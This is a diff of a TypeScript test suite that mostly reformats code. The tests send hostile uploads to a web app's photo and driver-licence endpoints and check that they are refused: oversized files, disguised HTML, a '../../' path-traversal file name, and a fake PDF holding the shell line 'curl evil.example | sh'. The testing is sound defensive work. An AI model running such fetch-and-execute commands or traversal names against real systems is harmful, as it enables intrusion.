@@ -37,7 +37,12 @@ afterAll(async () => {
 const UPLOAD_ROUTES = [{ url: '/api/service-requests', fileField: 'itemPhotos', fields: shipperFields }];
 
 const MB = 1024 * 1024;
-const photo = (filenameParameter: string, value: Buffer): RawPart => ({ name: 'itemPhotos', filenameParameter, value, contentType: 'image/jpeg' });
+const photo = (filenameParameter: string, value: Buffer): RawPart => ({
+  name: 'itemPhotos',
+  filenameParameter,
+  value,
+  contentType: 'image/jpeg',
+});
 
 interface HostileUpload {
   attack: string;
@@ -47,7 +52,12 @@ interface HostileUpload {
 }
 
 const HOSTILE_UPLOADS: HostileUpload[] = [
-  { attack: 'a file over 10 MB', parts: () => [photo('filename="big.jpg"', jpegOfSize(10 * MB + 1))], status: 413, message: 'big.jpg is too large (max 10MB)' },
+  {
+    attack: 'a file over 10 MB',
+    parts: () => [photo('filename="big.jpg"', jpegOfSize(10 * MB + 1))],
+    status: 413,
+    message: 'big.jpg is too large (max 10MB)',
+  },
   {
     attack: 'six files',
     parts: () => Array.from({ length: 6 }, (_, n) => photo(`filename="p${n}.png"`, PNG_BYTES)),
@@ -60,8 +70,18 @@ const HOSTILE_UPLOADS: HostileUpload[] = [
     status: 413,
     message: 'The form has too many fields.',
   },
-  { attack: 'a field over 10,000 characters', parts: () => [{ name: 'additionalNotes', value: 'x'.repeat(10_001) }], status: 413, message: 'additionalNotes is too long.' },
-  { attack: 'an HTML page named .jpg', parts: () => [photo('filename="holiday.jpg"', HTML_BYTES)], status: 415, message: 'holiday.jpg is not a supported file type' },
+  {
+    attack: 'a field over 10,000 characters',
+    parts: () => [{ name: 'additionalNotes', value: 'x'.repeat(10_001) }],
+    status: 413,
+    message: 'additionalNotes is too long.',
+  },
+  {
+    attack: 'an HTML page named .jpg',
+    parts: () => [photo('filename="holiday.jpg"', HTML_BYTES)],
+    status: 415,
+    message: 'holiday.jpg is not a supported file type',
+  },
   {
     attack: 'a script named .pdf',
     parts: () => [photo('filename="invoice.pdf"', Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'))],
@@ -143,7 +163,13 @@ describe.each(UPLOAD_ROUTES)('hostile uploads to $url', ({ url, fields }) => {
     async (filenameParameter) => {
       const textParts = Object.entries(fields()).map(([name, value]) => ({ name, value }));
       const body = rawMultipart([...textParts, photo(filenameParameter, PNG_BYTES)]);
-      const response = await app.inject({ method: 'POST', url, remoteAddress: nextClientAddress(), headers: { 'content-type': body.contentType }, payload: body.payload });
+      const response = await app.inject({
+        method: 'POST',
+        url,
+        remoteAddress: nextClientAddress(),
+        headers: { 'content-type': body.contentType },
+        payload: body.payload,
+      });
       expect([201, 400]).toContain(response.statusCode);
       // The parser cuts the name at the break (or drops the encoded one), so the rest is accepted.
       expect(response.statusCode).toBe(201);
@@ -155,7 +181,13 @@ describe.each(UPLOAD_ROUTES)('hostile uploads to $url', ({ url, fields }) => {
   it('still accepts ordinary photos and a PDF (the battery is not refusing everything)', async () => {
     const textParts = Object.entries(fields()).map(([name, value]) => ({ name, value }));
     const body = rawMultipart([...textParts, photo('filename="sofa.png"', PNG_BYTES), photo('filename="bill of lading.pdf"', PDF_BYTES)]);
-    const response = await app.inject({ method: 'POST', url, remoteAddress: nextClientAddress(), headers: { 'content-type': body.contentType }, payload: body.payload });
+    const response = await app.inject({
+      method: 'POST',
+      url,
+      remoteAddress: nextClientAddress(),
+      headers: { 'content-type': body.contentType },
+      payload: body.payload,
+    });
     expect(response.statusCode).toBe(201);
     const stored = await database.db.select({ name: uploads.originalName }).from(uploads);
     expect(stored.map(({ name }) => name)).toEqual(expect.arrayContaining(['sofa.png', 'bill of lading.pdf']));
@@ -165,17 +197,32 @@ describe.each(UPLOAD_ROUTES)('hostile uploads to $url', ({ url, fields }) => {
 
 // The driver application's documents: the same attacks on the license copy (pdf, jpeg, png, 5 MB,
 // one file), sent beside a valid resume so that the refusal is the hostile file's alone.
-const license = (filenameParameter: string, value: Buffer): RawPart => ({ name: 'licenseFile', filenameParameter, value, contentType: 'image/png' });
+const license = (filenameParameter: string, value: Buffer): RawPart => ({
+  name: 'licenseFile',
+  filenameParameter,
+  value,
+  contentType: 'image/png',
+});
 
 const HOSTILE_DOCUMENTS: HostileUpload[] = [
-  { attack: 'a license copy over 5 MB', parts: () => [license('filename="big.jpg"', jpegOfSize(5 * MB + 1))], status: 413, message: 'big.jpg is too large (max 5MB)' },
+  {
+    attack: 'a license copy over 5 MB',
+    parts: () => [license('filename="big.jpg"', jpegOfSize(5 * MB + 1))],
+    status: 413,
+    message: 'big.jpg is too large (max 5MB)',
+  },
   {
     attack: 'two license copies',
     parts: () => [license('filename="a.png"', PNG_BYTES), license('filename="b.png"', PNG_BYTES)],
     status: 413,
     message: 'Only one file is allowed here',
   },
-  { attack: 'an HTML page named .pdf', parts: () => [license('filename="license.pdf"', HTML_BYTES)], status: 415, message: 'license.pdf is not a supported file type' },
+  {
+    attack: 'an HTML page named .pdf',
+    parts: () => [license('filename="license.pdf"', HTML_BYTES)],
+    status: 415,
+    message: 'license.pdf is not a supported file type',
+  },
   {
     attack: 'a path in the file name',
     parts: () => [license('filename="../../license.png"', PNG_BYTES)],
@@ -201,7 +248,12 @@ describe('hostile documents to /api/driver-applications', () => {
     const before = await countRows(database);
     const filesBefore = filesUnder(uploadsDir);
     const textParts = Object.entries(applicationFields()).map(([name, value]) => ({ name, value }));
-    const resume: RawPart = { name: 'resumeFile', filenameParameter: 'filename="resume.pdf"', value: PDF_BYTES, contentType: 'application/pdf' };
+    const resume: RawPart = {
+      name: 'resumeFile',
+      filenameParameter: 'filename="resume.pdf"',
+      value: PDF_BYTES,
+      contentType: 'application/pdf',
+    };
     const body = rawMultipart([...textParts, resume, ...parts('licenseFile')]);
     const response = await app.inject({
       method: 'POST',
